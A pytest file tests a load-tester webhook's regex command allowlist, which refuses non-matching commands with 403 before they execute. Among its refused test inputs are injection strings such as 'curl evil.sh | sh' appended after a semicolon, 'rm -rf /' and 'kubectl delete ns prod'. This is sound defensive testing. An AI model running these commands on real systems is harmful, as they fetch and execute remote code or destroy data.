"""-allow-cmd: a command no pattern fully matches answers 403 before any process starts."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from loadtester.cli import main, parse_settings
from loadtester.errors import Forbidden
from loadtester.models import WebhookPayload
from loadtester.policy import CommandPolicy, command_of
from tests.support.client import ClientFactory

HEY = r"hey -z \d+[sm] -q \d+ -c \d+ http://[a-z0-9.-]+(:\d+)?/[\w/.-]*"
ALLOW = (HEY, r"echo [\w ]*", r"kubectl rollout status deploy/[a-z0-9-]+ -n [a-z0-9-]+")


def payload(**metadata: str) -> dict[str, Any]:
    """A Flagger payload with the given metadata."""
    return {"name": "podinfo", "namespace": "test", "phase": "Progressing",
            "metadata": metadata}


async def answer(client: Any, body: dict[str, Any]) -> tuple[int, str]:
    """Status and body of POST /."""
    async with client.post("/", data=json.dumps(body)) as response:
        return response.status, await response.text()


def test_command_of_each_type() -> None:
    """Shell types are matched on cmd; tools and load on `<type> <cmd>`; a load scenario's
    URLs are matched once it is read; other types run no command."""
    def of(**metadata: str) -> str | None:
        return command_of(WebhookPayload(name="p", namespace="t", metadata=metadata))

    assert of(cmd="hey -z 1m http://x/") == "hey -z 1m http://x/"
    assert of(type="bash", cmd="echo hi") == "echo hi"
    assert of(type="helmv3", cmd="test podinfo") == "helmv3 test podinfo"
    assert of(type="kubectl", cmd="get pods") == "kubectl get pods"
    assert of(type="load", cmd="hey -z 1m http://x/") == "load hey -z 1m http://x/"
    assert of(type="load", url="http://x/") is None
    assert of(type="load", cmd="hey http://x/", scenario="requests: []") is None
    assert of(type="concord", server="http://c") is None
    assert of(type="bash") is None


def test_full_match_only() -> None:
    """A pattern must match the whole command: a suffix or a second line is not allowed."""
    policy = CommandPolicy(ALLOW)
    policy.check(WebhookPayload(name="p", namespace="t",
                                metadata={"cmd": "hey -z 1m -q 10 -c 2 http://podinfo.test:9898/"}))
    for command in ("hey -z 1m -q 10 -c 2 http://podinfo.test:9898/; curl evil.sh | sh",
                    "echo ok\nrm -rf /", "echo ok && id", "sh -c 'echo ok'"):
        with pytest.raises(Forbidden, match="command not allowed: "):
            policy.check(WebhookPayload(name="p", namespace="t",
                                        metadata={"type": "bash", "cmd": command}))
    CommandPolicy(()).check(WebhookPayload(name="p", namespace="t", metadata={"cmd": "rm -rf /"}))


async def test_refused_command_is_403(make_client: ClientFactory, tmp_path: Path) -> None:
    """A command outside the list answers 403 with its first 80 characters and never runs."""
    client = await make_client(allow_cmd=ALLOW)
    marker = tmp_path / "ran"
    command = f"echo ok; touch {marker}; " + "x" * 100
    status, text = await answer(client, payload(type="bash", cmd=command))
    assert (status, text) == (403, f"command not allowed: {command[:80]}")
    assert not marker.exists()
    assert await answer(client, payload(type="bash", cmd="echo ok", returnCmdOutput="true")) == (
        200, "ok\n")
    assert await answer(client, payload(cmd="touch x")) == (403, "command not allowed: touch x")
    status, text = await answer(client, payload(type="kubectl", cmd="delete ns prod"))
    assert (status, text) == (403, "command not allowed: kubectl delete ns prod")
    status, _ = await answer(client, payload(type="kubectl",
                                             cmd="rollout status deploy/podinfo -n test"))
    assert status != 403


async def test_refusal_body_is_one_line(make_client: ClientFactory) -> None:
    """A command with newlines is shown on one line in the 403 body."""
    client = await make_client(allow_cmd=ALLOW)
    status, text = await answer(client, payload(type="bash", cmd="echo ok\nid"))
    assert (status, text) == (403, "command not allowed: echo ok id")


async def test_missing_cmd_and_unknown_type_keep_their_400(make_client: ClientFactory) -> None:
    """The policy does not hide the Go service's 400 answers."""
    client = await make_client(allow_cmd=ALLOW)
    assert await answer(client, payload(type="bash")) == (400, "cmd not found in metadata")
    assert await answer(client, payload(type="nope", cmd="x")) == (400, "unknown task type nope")


def test_allow_cmd_is_repeatable() -> None:
    """-allow-cmd may be given several times; LOADTESTER_ALLOW_CMD holds one pattern a line."""
    settings = parse_settings(["-allow-cmd", "echo .*", "-allow-cmd=hey .*"], environ={})
    assert settings.allow_cmd == ("echo .*", "hey .*")
    from_env = parse_settings([], environ={"LOADTESTER_ALLOW_CMD": "echo .*\n\n  hey .*  \n"})
    assert from_env.allow_cmd == ("echo .*", "hey .*")
    flags_win = parse_settings(["-allow-cmd=id"], environ={"LOADTESTER_ALLOW_CMD": "echo .*"})
    assert flags_win.allow_cmd == ("id",)
    assert parse_settings([], environ={}).allow_cmd == ()


def test_invalid_pattern_stops_start_up(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """An -allow-cmd that does not compile exits 2 with one line naming the flag."""
    monkeypatch.delenv("LOADTESTER_ALLOW_CMD", raising=False)
    assert main(["-allow-cmd=echo .*", "-allow-cmd=hey (", "-state=memory"]) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith("loadtester: invalid value for flag -allow-cmd: invalid regexp 'hey ('")
